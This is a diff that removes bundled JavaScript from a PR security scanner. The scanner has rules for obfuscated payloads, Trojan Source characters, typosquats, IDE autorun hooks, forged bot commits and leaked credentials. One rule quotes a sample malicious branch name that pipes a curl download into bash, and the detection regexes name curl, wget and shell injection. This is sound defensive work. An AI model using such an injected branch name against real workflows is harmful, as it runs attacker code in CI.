-        severity: 'high',
-        why: '`marshal.loads`, `zlib`/`lzma`/`bz2` decompression of inline data produces code or data no reviewer saw.',
-        remediation: 'Commit the plain content instead.',
-        spec: ['S8-16'],
-        pathIgnorable: false
-    },
-    OBF_CHR_CHAIN: {
-        id: 'obfuscation/char-code-chain',
-        title: 'String built from character codes',
-        severity: 'medium',
-        why: '`chr(..)+chr(..)` and `String.fromCharCode(...)` chains hide names like `exec` or URLs from search and review.',
-        remediation: 'Replace with the plain string and check what it was.',
-        spec: ['S8-16'],
-        pathIgnorable: false
-    },
-    OBF_PACKER: {
-        id: 'obfuscation/packer',
-        title: 'Packed or obfuscated code',
-        severity: 'high',
-        why: 'PyArmor runtimes, JavaScript packers and obfuscator output exist to stop people reading code.',
-        remediation: 'Reject packed code; ask for the source.',
-        spec: ['S8-16'],
-        pathIgnorable: false
-    },
-    OBF_BUNDLE: {
-        id: 'obfuscation/bundled-js-payload',
-        title: 'Payload added to bundled JavaScript',
-        severity: 'high',
-        why: 'Bundled `dist/` files are generated and rarely reviewed; tj-actions was compromised by a base64 payload added to `dist/index.js`.',
-        remediation: 'Rebuild the bundle from source in CI and compare; reject hand edits of generated files.',
-        spec: ['S8-16'],
-        references: [TJ],
-        pathIgnorable: false
-    },
-    // --- Unicode ---------------------------------------------------------------------
-    UNI_BIDI: {
-        id: 'unicode/bidi-control',
-        title: 'Bidirectional control character',
-        severity: 'high',
-        why: 'Bidi controls make code display in a different order from how it runs (Trojan Source).',
-        remediation: 'Remove the character; GitHub shows a warning banner on such files.',
-        spec: ['S8-16'],
-        references: [TROJAN],
-        pathIgnorable: false
-    },
-    UNI_INVISIBLE: {
-        id: 'unicode/invisible-character',
-        title: 'Invisible character in code',
-        severity: 'high',
-        why: 'Zero-width characters, variation selectors and blank look-alikes hide identifiers or whole payloads (GlassWorm).',
-        remediation: 'Remove the character or write it as an escape (`\\u200b`).',
-        spec: ['S8-16'],
-        references: [TROJAN],
-        pathIgnorable: false
-    },
-    UNI_HOMOGLYPH: {
-        id: 'unicode/homoglyph',
-        title: 'Look-alike letters from another script',
-        severity: 'high',
-        why: 'A Cyrillic `а` or Greek `ο` in a Latin identifier or string makes two different names look the same (Trojan Source homoglyph attack).',
-        remediation: 'Replace the look-alike with the Latin letter, or use an escape if the foreign letter is intended.',
-        spec: ['S8-16'],
-        references: [TROJAN],
-        pathIgnorable: false
-    },
-    // --- dependencies -----------------------------------------------------------------
-    DEP_NEW: {
-        id: 'deps/new-dependency',
-        title: 'New dependency',
-        severity: 'info',
-        why: "Each new dependency is code that runs in your users' environments.",
-        remediation: 'Check the project is maintained and the name is the one intended.',
-        spec: ['S8-16']
-    },
-    DEP_TYPOSQUAT: {
-        id: 'deps/typosquat',
-        title: 'Dependency name close to a popular package',
-        severity: 'high',
-        why: 'Typosquatted names are a common way malware reaches Python environments.',
-        remediation: 'Use the exact name of the intended package.',
-        spec: ['S8-16']
-    },
-    DEP_DIRECT_URL: {
-        id: 'deps/direct-url',
-        title: 'Direct URL or VCS dependency',
-        severity: 'medium',
-        why: 'A URL or git dependency bypasses the index and can change under the same name.',
-        remediation: 'Depend on a released version from PyPI, or pin the commit and hash.',
-        spec: ['S8-16']
-    },
-    DEP_INDEX_URL: {
-        id: 'deps/index-url',
-        title: 'New package index',
-        severity: 'high',
-        why: 'An extra or replaced index lets another server supply any package (dependency confusion).',
-        remediation: 'Remove the index option unless it is an index you run.',
-        spec: ['S8-16']
-    },
-    // --- metadata -----------------------------------------------------------------------
-    META_REF_INJECTION: {
-        id: 'meta/branch-name-shell',
-        title: 'Shell syntax in the branch name',
-        severity: 'medium',
-        why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
-        remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
-        spec: ['S8-16'],
-        references: [ULTRALYTICS]
-    },
-    META_EMPTY_NEW: {
-        id: 'meta/empty-pr-new-account',
-        title: 'Near-empty PR from a new account',
-        severity: 'medium',
-        why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
-        remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
-        spec: ['S8-16']
-    },
-    META_BOT_IDENTITY: {
-        id: 'meta/unverified-bot-identity',
-        title: 'Commit claims a bot identity without verification',
-        severity: 'high',
-        why: "Anyone can set their git author to `github-actions[bot]`; tj-actions' malicious commit posed as Renovate.",
-        remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
-        spec: ['S8-4'],
-        references: [TJ]
-    },
-    META_GOVERNANCE: {
-        id: 'meta/governance-edit',
-        title: 'CODEOWNERS, CI or scanner configuration changed',
-        severity: 'medium',
-        why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
-        remediation: 'Have a maintainer who owns CI review the change.',
-        spec: ['S6-1', 'S8-5']
-    },
-    META_NEW_AUTHOR: {
-        id: 'meta/new-author-sensitive-paths',
-        title: 'First-time contributor changes sensitive files',
-        severity: 'medium',
-        why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
-        remediation: 'Review these files line by line before approving workflow runs.',
-        spec: ['S8-16']
-    },
-    META_AUTORUN: {
-        id: 'meta/ide-autorun',
-        title: 'File that makes an IDE or agent run code',
-        severity: 'high',
-        why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
-        remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
-        spec: ['S8-16'],
-        references: [GHOST]
-    },
-    META_SUPPRESSION: {
-        id: 'meta/suppression-added',
-        title: 'PR adds an inline suppression',
-        severity: 'low',
-        why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
-        remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
-        spec: ['S8-16']
-    },
-    // --- secrets ---------------------------------------------------------------------------
-    SECRET: {
-        id: 'secrets/credential',
-        title: 'Credential added',
-        severity: 'critical',
-        why: 'A committed credential is public as soon as the PR is pushed.',
-        remediation: 'Revoke the credential now, then remove it from the branch.',
-        spec: ['S6-7', 'S6-5'],
-        pathIgnorable: false
-    }
-});
-const rules_REGISTRY = new RuleRegistry('pr-anomaly-scan', rulesOf(rules_RULES));
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/binary.ts
-// Opaque content: what a binary file is (magic bytes), how random it looks
-// (entropy) and where it sits. Blobs are streamed, so a 1 GB file costs a
-// histogram, not a gigabyte.
-
-
-
-/** Bytes kept from the start of each blob: magic detection needs 4100, git's binary test looks at 8000. */
-const HEAD = 8000;
-/** Entropy is measured on the first 16 MiB; enough to tell text-like from compressed. */
-const ENTROPY_BYTES = 16 * 1024 * 1024;
-class BlobAnalyser {
-    hash = (0,external_node_crypto_.createHash)('sha256');
-    counts = new Float64Array(256);
-    sampled = 0;
-    headParts = [];
-    headLen = 0;
-    size = 0;
-    chunk(b) {
-        this.size += b.length;
-        this.hash.update(b);
-        if (this.headLen < HEAD) {
-            const part = b.subarray(0, HEAD - this.headLen);
-            this.headParts.push(Buffer.from(part));
-            this.headLen += part.length;
-        }
-        const n = Math.min(b.length, ENTROPY_BYTES - this.sampled);
-        for (let i = 0; i < n; i++)
-            this.counts[b[i]]++;
-        this.sampled += n;
-    }
-    facts() {
-        let entropy = 0;
-        for (const c of this.counts) {
-            if (c) {
-                const p = c / this.sampled;
-                entropy -= p * Math.log2(p);
-            }
-        }
-        const head = Buffer.concat(this.headParts);
-        return { size: this.size, sha256: this.hash.digest('hex'), head, entropy, hasNul: head.includes(0) };
-    }
-}
-// Formats common in scientific repositories that generic detectors miss, then executables.
-const MAGIC = [
-    [
-        Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'),
-        { name: 'HDF5', exts: ['h5', 'hdf5', 'hdf', 'he5', 'nc', 'nc4', 'mat'] }
-    ],
-    [Buffer.from('\x93NUMPY', 'latin1'), { name: 'NPY', exts: ['npy'] }],
-    [Buffer.from('SIMPLE  =', 'latin1'), { name: 'FITS', exts: ['fits', 'fit', 'fts', 'fz'] }],
-    [Buffer.from('CDF\x01', 'latin1'), { name: 'netCDF', exts: ['nc', 'cdf'] }],
-    [Buffer.from('CDF\x02', 'latin1'), { name: 'netCDF', exts: ['nc', 'cdf'] }],
-    [Buffer.from('MATLAB 5.0', 'latin1'), { name: 'MAT', exts: ['mat'] }],
-    [Buffer.from('PAR1', 'latin1'), { name: 'Parquet', exts: ['parquet'] }],
-    [Buffer.from('\x7fELF', 'latin1'), { name: 'ELF executable', exts: ['so', 'o'], exec: true }],
-    [Buffer.from('MZ', 'latin1'), { name: 'Windows executable', exts: ['exe', 'dll', 'pyd'], exec: true }],
-    [Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), { name: 'Mach-O', exts: ['dylib', 'so'], exec: true }],
-    [Buffer.from([0xca, 0xfe, 0xba, 0xbe]), { name: 'Mach-O/Java class', exts: ['class', 'dylib'], exec: true }],
-    [/^\x80[\x02-\x05]/, { name: 'pickle', exts: ['pkl', 'pickle', 'joblib', 'p'], exec: true }],
-    [Buffer.from('\xfd7zXZ\x00', 'latin1'), { name: 'xz', exts: ['xz', 'txz'], compressed: true }],
-    [Buffer.from([0x5d, 0x00, 0x00]), { name: 'lzma', exts: ['lzma'], compressed: true }],
-    [Buffer.from([0x1f, 0x8b]), { name: 'gzip', exts: ['gz', 'tgz'], compressed: true }],
-    [Buffer.from('BZh', 'latin1'), { name: 'bzip2', exts: ['bz2', 'tbz2'], compressed: true }],
-    [Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), { name: 'zstd', exts: ['zst'], compressed: true }],
-    [Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1'), { name: '7z', exts: ['7z'], compressed: true }],
-    [
-        Buffer.from('PK\x03\x04', 'latin1'),
-        { name: 'zip', exts: ['zip', 'whl', 'jar', 'npz', 'docx', 'xlsx', 'pptx', 'odt', 'egg', 'nupkg'], compressed: true }
-    ]
-];
-const COMPRESSED_EXT = new Set([
-    'xz',
-    'lzma',
-    'gz',
-    'tgz',
-    'bz2',
-    'zst',
-    '7z',
-    'zip',
-    'rar',
-    'tar',
-    'z',
-    'lz',
-    'lz4',
-    'br'
-]);
-const CONTAINER_FINE = new Set(['npz', 'whl', 'docx', 'xlsx', 'pptx', 'odt', 'jar']);
-async function detect(head) {
-    for (const [m, k] of MAGIC) {
-        if (Buffer.isBuffer(m) ? head.subarray(0, m.length).equals(m) : m.test(head.subarray(0, 8).toString('latin1')))
-            return k;
-    }
-    const { fileTypeFromBuffer } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(388)]).then(__nccwpck_require__.bind(__nccwpck_require__, 3388));
-    const t = await fileTypeFromBuffer(new Uint8Array(head)).catch(() => undefined);
-    if (!t)
-        return undefined;
-    const ext = t.ext;
-    return { name: t.mime, exts: ext === 'jpg' ? ['jpg', 'jpeg'] : ext === 'tif' ? ['tif', 'tiff'] : [ext] };
-}
-const TESTS = /(^|\/)(tests?|testing|test_?data|fixtures?|data|testfiles|files)\//i;
-async function scanBinary({ file, facts, oldSize }) {
-    const path = file.path;
-    const ext = (/\.([^./]+)$/.exec(path)?.[1] ?? '').toLowerCase();
-    const kind = await detect(facts.head);
-    const inTests = TESTS.test(path);
-    const sizeText = oldSize !== undefined && file.status !== 'added' ? `${oldSize} → ${facts.size} bytes` : `${facts.size} bytes`;
-    const properties = {
-        size: facts.size,
-        oldSize,
-        entropy: Number(facts.entropy.toFixed(2)),
-        format: kind?.name ?? 'unknown',
-        contentSha256: facts.sha256,
-        status: file.status
-    };
-    const make = (rule, message, extra = {}) => createFinding(rule, {
-        message,
-        location: { file: path },
-        evidence: `${kind?.name ?? 'unknown format'}, ${sizeText}, entropy ${facts.entropy.toFixed(2)} bits/byte`,
-        key: facts.sha256,
-        properties,
-        ...extra
-    });
-    const mismatch = kind && ext && !kind.exts.includes(ext) && !(kind.compressed && COMPRESSED_EXT.has(ext));
-    if (kind?.exec)
-        return [
-            make(rules_RULES.BIN_EXECUTABLE, `${kind.name} ${file.status}${mismatch ? ` with extension .${ext}` : ''}.`, {
-                severity: 'high'
-            })
-        ];
-    if (mismatch)
-        return [
-            make(rules_RULES.BIN_OPAQUE, `Content is ${kind.name} but the extension is .${ext || '(none)'}.`, { severity: 'high' })
-        ];
-    if (kind?.compressed && !CONTAINER_FINE.has(ext) && inTests) {
-        return [make(rules_RULES.BIN_ARCHIVE_TESTS, `${kind.name} data ${file.status} under a test/data folder.`)];
-    }
-    if (!kind) {
-        // Unknown format: high entropy means compressed or encrypted content that no tool in the repo will explain.
-        const random = facts.entropy > 7.5 && facts.size > 256;
-        if (random || COMPRESSED_EXT.has(ext)) {
-            return [
-                make(inTests ? rules_RULES.BIN_ARCHIVE_TESTS : rules_RULES.BIN_OPAQUE, `Unrecognised binary (${random ? 'compressed or encrypted-looking' : 'unknown format'}) ${file.status}.`, { severity: random ? 'high' : 'medium' })
-            ];
-        }
-        if (facts.size > 1024 * 1024 || !inTests)
-            return [make(rules_RULES.BIN_OPAQUE, `Unrecognised binary ${file.status}.`, { severity: 'low', confidence: 'medium' })];
-    }
-    return [];
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/sides.ts
-// Both sides of a changed file, parsed for the rules that compare them.
-
-/**
- * The head must parse (its error is reported for the file); a base that does
- * not parse counts as absent, so everything in the head is treated as new.
- */
-function parseBoth(parse, file, baseText, headText) {
-    let head;
-    try {
-        head = parse(headText, file);
-    }
-    catch (e) {
-        return { error: oneLine(e) };
-    }
-    try {
-        return { head, base: baseText === undefined ? undefined : parse(baseText, file) };
-    }
-    catch {
-        return { head };
-    }
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/deps.ts
-// Dependency rules over the shared core parsers and typosquat detector: what
-// the PR adds to pyproject, requirements and environment files.
-
-
-
-const isDependencyFile = (path) => {
-    const k = pythonFileKind(path);
-    return k !== undefined && !k.endsWith('lock'); // lock files follow their manifests; scanning them twice doubles every finding
-};
-function scanDependencies(file, baseText, headText) {
-    const parsed = parseBoth(parsePythonFile, file, baseText, headText);
-    if ('error' in parsed)
-        return { findings: [], error: parsed.error };
-    const { head, base } = parsed;
-    const findings = [];
-    const known = new Set(base?.dependencies.map((d) => `${d.name}|${d.url ?? ''}|${d.vcs?.url ?? ''}`) ?? []);
-    const knownNames = new Set(base?.dependencies.map((d) => d.name) ?? []);
-    for (const d of head.dependencies) {
-        if (known.has(`${d.name}|${d.url ?? ''}|${d.vcs?.url ?? ''}`))
-            continue;
-        const location = { file, line: d.line };
-        const squat = findTyposquat(d.name);
-        if (squat) {
-            findings.push(createFinding(rules_RULES.DEP_TYPOSQUAT, {
-                message: `\`${d.rawName}\` is one ${squat.kind.replace(/-/g, ' ')} away from the popular \`${squat.target}\`.`,
-                evidence: d.rawName,
-                location,
-                properties: { target: squat.target, kind: squat.kind }
-            }));
-        }
-        if (d.url || d.vcs) {
-            findings.push(createFinding(rules_RULES.DEP_DIRECT_URL, {
-                message: `\`${d.rawName}\` comes from ${d.vcs ? `${d.vcs.type} ${d.vcs.url}` : d.url}.`,
-                evidence: d.vcs?.url ?? d.url ?? d.rawName,
-                location
-            }));
-        }
-        if (!knownNames.has(d.name) && !squat) {
-            findings.push(createFinding(rules_RULES.DEP_NEW, {
-                message: `New dependency \`${d.rawName}\`${d.group ? ` (${d.group})` : ''}.`,
-                evidence: d.rawName,
-                location
-            }));
-        }
-    }
-    const baseOptions = new Set(base?.options.map((o) => `${o.option} ${o.value ?? ''}`) ?? []);
-    for (const o of head.options) {
-        if (!/index-url|find-links|trusted-host|^-i$|^-f$/.test(o.option) ||
-            baseOptions.has(`${o.option} ${o.value ?? ''}`))
-            continue;
-        findings.push(createFinding(rules_RULES.DEP_INDEX_URL, {
-            message: `\`${o.option} ${o.value ?? ''}\` adds a package source.`,
-            evidence: `${o.option} ${o.value ?? ''}`.trim(),
-            location: { file, line: o.line }
-        }));
-    }
-    return { findings };
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/meta.ts
-// PR metadata rules: the head branch name, who sent the PR and what identity
-// its commits claim. The event payload is always read; the API (at most
-// MAX_REQUESTS per PR) adds account age, history and commit verification.
-
-
-const MAX_REQUESTS = 10;
-function prMetaFromEvent(event, repository) {
-    const pr = event?.pull_request;
-    const repo = event?.repository?.full_name ?? repository;
-    if (!pr)
-        return { repo };
-    return {
-        number: typeof pr.number === 'number' ? pr.number : undefined,
-        repo,
-        headRef: pr.head?.ref,
-        author: pr.user?.login,
-        association: pr.author_association,
-        title: pr.title,
-        body: pr.body ?? undefined,
-        baseSha: pr.base?.sha,
-        headSha: pr.head?.sha
-    };
-}
-/** Characters a shell gives meaning to; git allows all of them in branch names except a few. */
-const SHELL_META = /[$`;|&<>(){}\\'"!*?]|\$\{IFS\}/;
-function refFindings(meta) {
-    if (!meta.headRef || !SHELL_META.test(meta.headRef))
-        return [];
-    const strong = /\$\(|`|\$\{IFS\}|\|\s*(ba)?sh|curl|wget/.test(meta.headRef);
-    return [
-        createFinding(rules_RULES.META_REF_INJECTION, {
-            message: `The head branch name contains shell syntax${strong ? ' that runs a command when interpolated' : ''}.`,
-            evidence: meta.headRef.slice(0, 200),
-            severity: strong ? 'critical' : 'medium',
-            confidence: strong ? 'high' : 'medium'
-        })
-    ];
-}
-const SENSITIVE = /(^|\/)(\.github\/|CODEOWNERS$|setup\.py$|setup\.cfg$|pyproject\.toml$|meson\.build$|CMakeLists\.txt$|conftest\.py$|noxfile\.py$|tox\.ini$|\.pre-commit-config\.ya?ml$|Makefile|configure\.ac$|[^/]*\.m4$|[^/]*\.pth$|dist\/|\.vscode\/|\.devcontainer\/|\.claude\/|requirements[^/]*\.txt$|environment[^/]*\.ya?ml$)/;
-const isSensitive = (path) => SENSITIVE.test(path);
-function governanceFindings(paths, configPath) {
-    const out = [];
-    for (const p of paths) {
-        const what = /(^|\/)CODEOWNERS$/.test(p)
-            ? 'CODEOWNERS decides who must review'
-            : p === configPath || p === '.github/security-actions.yml'
-                ? "this scanner's own configuration (ignores, severities) is changed by the PR it scans"
-                : /^\.github\/(dependabot\.ya?ml|actions\/)|^\.github\/workflows\//.test(p)
-                    ? 'CI configuration'
-                    : undefined;
-        if (what)
-            out.push(createFinding(rules_RULES.META_GOVERNANCE, {
-                message: `${p}: ${what}.`,
-                location: { file: p },
-                evidence: p,
-                severity: what === 'CI configuration' ? (/workflows\//.test(p) ? 'low' : 'medium') : 'high',
-                confidence: 'high'
-            }));
-    }
-    return out;
-}
-/** IDE and agent files that run commands when a checkout is opened. */
-function autorunFindings(path, text) {
-    const line = (re) => {
-        const i = text.split('\n').findIndex((l) => re.test(l));
-        return i < 0 ? 1 : i + 1;
-    };
-    const hit = (re, message) => re.test(text)
-        ? [
-            createFinding(rules_RULES.META_AUTORUN, {
-                message,
-                location: { file: path, line: line(re) },
-                evidence: (re.exec(text)?.[0] ?? '').slice(0, 120)
-            })
-        ]
-        : [];
-    if (/(^|\/)\.vscode\/tasks\.json$/.test(path))
-        return hit(/"runOn"\s*:\s*"folderOpen"/, 'A VS Code task runs when the folder is opened.');
-    if (/(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$/.test(path)) {
-        return hit(/"(initializeCommand|onCreateCommand|updateContentCommand|postCreateCommand|postStartCommand|postAttachCommand)"\s*:/, 'A devcontainer lifecycle command runs when the container is created or opened.');
-    }
-    if (/(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/.test(path)) {
-        return hit(/"(hooks|SessionStart|PreToolUse|PostToolUse|command)"\s*:/, 'An AI-agent configuration runs commands (hooks or MCP servers) in this checkout.');
-    }
-    return [];
-}
-const BOT = /\[bot\]|^(github-actions|dependabot|renovate|pre-commit-ci)\b|41898282\+github-actions|noreply@github\.com$/i;
-const claimsBot = (c) => BOT.test(c.authorName) ||
-    BOT.test(c.authorEmail) ||
-    BOT.test(c.committerName) ||
-    (BOT.test(c.committerEmail) && c.committerEmail !== 'noreply@github.com');
-/** The API checks, within MAX_REQUESTS; each failure becomes a NotChecked, never a pass. */
-async function apiChecks(client, meta, opts) {
-    const out = { findings: [], notChecked: [], notes: [], used: 0 };
-    const botCommits = opts.commits.filter(claimsBot);
-    const newAuthorByEvent = ['FIRST_TIME_CONTRIBUTOR', 'FIRST_TIMER', 'NONE'].includes(meta.association ?? '');
-    const reportNewAuthor = (why) => {
-        if (opts.diff.sensitive.length) {
-            out.findings.push(createFinding(rules_RULES.META_NEW_AUTHOR, {
-                message: `${meta.author ?? 'The author'} (${why}) changes ${opts.diff.sensitive.length} sensitive file(s): ${opts.diff.sensitive.slice(0, 5).join(', ')}${opts.diff.sensitive.length > 5 ? ', …' : ''}.`,
-                evidence: opts.diff.sensitive.slice(0, 5).join(', '),
-                key: `${meta.author}`,
-                confidence: 'medium'
-            }));
-        }
-    };
-    if (!client || !meta.author || !meta.repo) {
-        const reason = opts.noTokenReason ?? (!meta.author ? 'no pull_request event payload (author unknown)' : 'no token given');
-        for (const check of ['account-age', 'author-history', rules_RULES.META_EMPTY_NEW.id])
-            out.notChecked.push({ check, reason });
-        if (botCommits.length)
-            out.notChecked.push({
-                check: rules_RULES.META_BOT_IDENTITY.id,
-                reason: `${botCommits.length} commit(s) claim a bot identity; verification needs the API (${reason})`
-            });
-        if (newAuthorByEvent)
-            reportNewAuthor(`author association ${meta.association}`);
-        else if (!meta.association)
-            out.notChecked.push({ check: rules_RULES.META_NEW_AUTHOR.id, reason });
-        return out;
-    }
-    const [owner, repo] = meta.repo.split('/');
-    let budget = Math.min(opts.budget, MAX_REQUESTS);
-    const call = async (check, permission, f) => {
-        if (budget <= 0) {
-            out.notChecked.push({ check, reason: `API request budget (${MAX_REQUESTS} per PR) used up` });
-            return undefined;
-        }
-        budget--;
-        out.used++;
-        try {
-            return await f();
-        }
-        catch (e) {
-            out.notChecked.push({ check, reason: describeApiError(e, permission) });
-            return undefined;
-        }
-    };
-    const user = await call('account-age', undefined, () => client.rest.rest.users.getByUsername({ username: meta.author }));
-    const ageDays = user ? (Date.now() - Date.parse(user.data.created_at)) / 86_400_000 : undefined;
-    const q = (scope) => `is:pr is:merged author:${meta.author} ${scope}`;
-    const inRepo = await call('author-history', 'pull_requests: read', () => client.rest.rest.search.issuesAndPullRequests({ q: q(`repo:${meta.repo}`), per_page: 1 }));
-    const orgs = opts.trustedOrgs.filter((o) => /^[\w.-]+$/.test(o));
-    const inOrgs = orgs.length
-        ? await call('author-history-trusted-orgs', undefined, () => client.rest.rest.search.issuesAndPullRequests({ q: q(orgs.map((o) => `org:${o}`).join(' ')), per_page: 1 }))
-        : undefined;
-    const merged = inRepo ? inRepo.data.total_count : undefined;
-    const mergedOrgs = inOrgs ? inOrgs.data.total_count : 0;
-    if (['MEMBER', 'OWNER'].includes(meta.association ?? '')) {
-        // Organisation members and owners already hold write access; history adds nothing. (COLLABORATOR is not trusted, after cuda-python.)
-    }
-    else if (merged !== undefined) {
-        if (merged === 0 && mergedOrgs === 0)
-            reportNewAuthor(`no merged PRs in ${meta.repo}${orgs.length ? ` or ${orgs.join(', ')}` : ''}`);
-    }
-    else if (newAuthorByEvent)
-        reportNewAuthor(`author association ${meta.association}`);
-    if (ageDays !== undefined) {
-        if (ageDays < 30 && opts.diff.lines <= 2 && opts.diff.files <= 1) {
-            out.findings.push(createFinding(rules_RULES.META_EMPTY_NEW, {
-                message: `${meta.author}'s account is ${Math.floor(ageDays)} day(s) old and the PR changes ${opts.diff.files} file(s), ${opts.diff.lines} line(s).`,
-                evidence: `${meta.author} created ${user.data.created_at}`,
-                key: meta.author
-            }));
-        }
-    }
-    else if (!out.notChecked.some((n) => n.check === 'account-age')) {
-        out.notChecked.push({ check: rules_RULES.META_EMPTY_NEW.id, reason: 'account age unknown' });
-    }
-    if (botCommits.length) {
-        // One GraphQL request for up to 20 commits (aliases), whatever the PR's size.
-        const checked = botCommits.slice(0, 20);
-        const query = `query($owner:String!,$name:String!){repository(owner:$owner,name:$name){${checked
-            .map((c, i) => `c${i}:object(oid:"${c.sha}"){... on Commit{signature{isValid state}}}`)
-            .join(' ')}}}`;
-        const data = await call(rules_RULES.META_BOT_IDENTITY.id, 'contents: read', () => client.graphql(query, { owner, name: repo }));
-        if (data) {
-            checked.forEach((c, i) => {
-                const sig = data.repository?.[`c${i}`]?.signature;
-                if (!sig?.isValid) {
-                    out.findings.push(createFinding(rules_RULES.META_BOT_IDENTITY, {
-                        message: `Commit ${c.sha.slice(0, 12)} claims to be from ${c.authorName} <${c.authorEmail}> but is ${sig ? `not verified (${sig.state})` : 'unsigned'}.`,
-                        evidence: `${c.authorName} <${c.authorEmail}>: ${c.subject}`.slice(0, 160),
-                        key: c.sha
-                    }));
-                }
-            });
-            if (botCommits.length > checked.length)
-                out.notes.push(`${botCommits.length - checked.length} more commits claiming a bot identity were not verified (limit 20).`);
-        }
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/secrets.ts
-// Credentials added by the PR, found by secretlint's maintained recommended
-// preset (not our own vendor regexes). Only candidate lines are kept while
-// the diff streams; the secret itself never reaches a message or evidence.
-
-
-/** Cheap pre-filter: a long token-like run or a PEM header. Everything else cannot be a credential. */
-const OTHER = /PRIVATE KEY|:\/\/[^/\s:@]+:[^/\s@]+@/;
-const TOKEN_CHAR = new Uint8Array(128);
-for (const c of 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-+/=.:')
-    TOKEN_CHAR[c.charCodeAt(0)] = 1;
-/** A run of 20 token characters, found in one linear pass (a regex retries up to 20 times per position). */
-function hasTokenRun(s) {
-    let run = 0;
-    for (let i = 0; i < s.length; i++) {
-        const c = s.charCodeAt(i);
-        if (c < 128 && TOKEN_CHAR[c]) {
-            if (++run >= 20)
-                return true;
-        }
-        else
-            run = 0;
-    }
-    return false;
-}
-const isCandidate = (s) => hasTokenRun(s) || ((s.includes('PRIVATE KEY') || s.includes('@')) && OTHER.test(s));
-const MAX_CANDIDATE_BYTES = 8 * 1024 * 1024;
-class SecretCollector {
-    files = new Map();
-    bytes = 0;
-    truncated = false;
-    add(path, lines, all) {
-        if (all !== undefined && !isCandidate(all))
-            return;
-        if (/\.(ipynb|svg|lock|min\.js|map)$/.test(path) || /(^|\/)(package-lock\.json|yarn\.lock)$/.test(path))
-            return;
-        const keep = lines.filter((l) => isCandidate(l.text));
-        if (!keep.length)
-            return;
-        for (const l of keep)
-            this.bytes += l.text.length;
-        if (this.bytes > MAX_CANDIDATE_BYTES) {
-            this.truncated = true;
-            return;
-        }
-        this.files.set(path, keep.map((l) => ({ line: l.line, text: l.text.slice(0, 4096) })));
-    }
-    async scan() {
-        if (!this.files.size)
-            return [];
-        const { lintSource } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(198)]).then(__nccwpck_require__.bind(__nccwpck_require__, 198));
-        const { creator } = await __nccwpck_require__.e(/* import() */ 577).then(__nccwpck_require__.bind(__nccwpck_require__, 1577));
-        const config = { rules: [{ id: '@secretlint/secretlint-rule-preset-recommend', rule: creator }] };
-        const out = [];
-        for (const [path, lines] of this.files) {
-            const result = await lintSource({
-                source: { filePath: `/${path}`, content: lines.map((l) => l.text).join('\n'), contentType: 'text' },
-                options: { config, maskSecrets: true }
-            });
-            for (const m of result.messages) {
-                const l = lines[m.loc.start.line - 1];
-                if (!l)
-                    continue;
-                const kind = m.ruleId.replace(/^@secretlint\/secretlint-rule-/, '');
-                out.push(createFinding(rules_RULES.SECRET, {
-                    message: `A ${kind} credential is added (detected by secretlint ${kind}).`,
-                    location: { file: path, line: l.line, column: m.loc.start.column + 1 },
-                    evidence: `${kind} credential (masked)`,
-                    // The fingerprint must not be a hash of the secret (it would let anyone confirm a guess).
-                    key: `${kind}:${l.line}`,
-                    properties: { detector: m.ruleId }
-                }));
-            }
-        }
-        return out;
-    }
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/suppressions.ts
-// The scan's own suppressions, as core entries that the shared runner applies
-// with the config file's ignores: inline comments
-// (`pr-anomaly-scan: ignore[rule-id] reason`) and the content-hash allowlist
-// of the config's `pr-anomaly-scan:` section.
-
-
-const SUPPRESS = /pr-anomaly-scan:\s*ignore\[([a-z0-9/,\s-]+)\](.*)$/;
-/** `pr-anomaly-scan: ignore[rule-id] reason` comments among the given lines. */
-function inlineIgnores(lines) {
-    const out = [];
-    for (const l of lines) {
-        const m = SUPPRESS.exec(l.text);
-        if (!m)
-            continue;
-        out.push({
-            line: l.line,
-            rules: m[1]
-                .split(',')
-                .map((s) => s.trim())
-                .filter(Boolean),
-            reason: m[2].replace(/(-->|\*\/)\s*$/, '').trim()
-        });
-    }
-    return out;
-}
-/**
- * Rules no inline comment silences: the record of the ignores a PR adds, and
- * a credential, which is public once pushed (it is revoked, not silenced; a
- * config ignore by line or fingerprint still applies to a false alarm).
- */
-const NOT_INLINE = new Set([rules_RULES.META_SUPPRESSION.id, rules_RULES.SECRET.id]);
-/**
- * Entries for the ignores with a reason in `file`: each covers the rules it
- * names on its own line and the next. `only` narrows the rules further.
- */
-function inlineSuppressions(file, ignores, only = () => true) {
-    const path = literalPath(file);
-    return ignores
-        .filter((ig) => ig.reason)
-        .flatMap((ig) => ig.rules
-        .filter((rule) => !NOT_INLINE.has(rule) && only(rule))
-        .flatMap((rule) => [ig.line, ig.line + 1].map((line) => ({
-        rule,
-        path,
-        line,
-        reason: ig.reason,
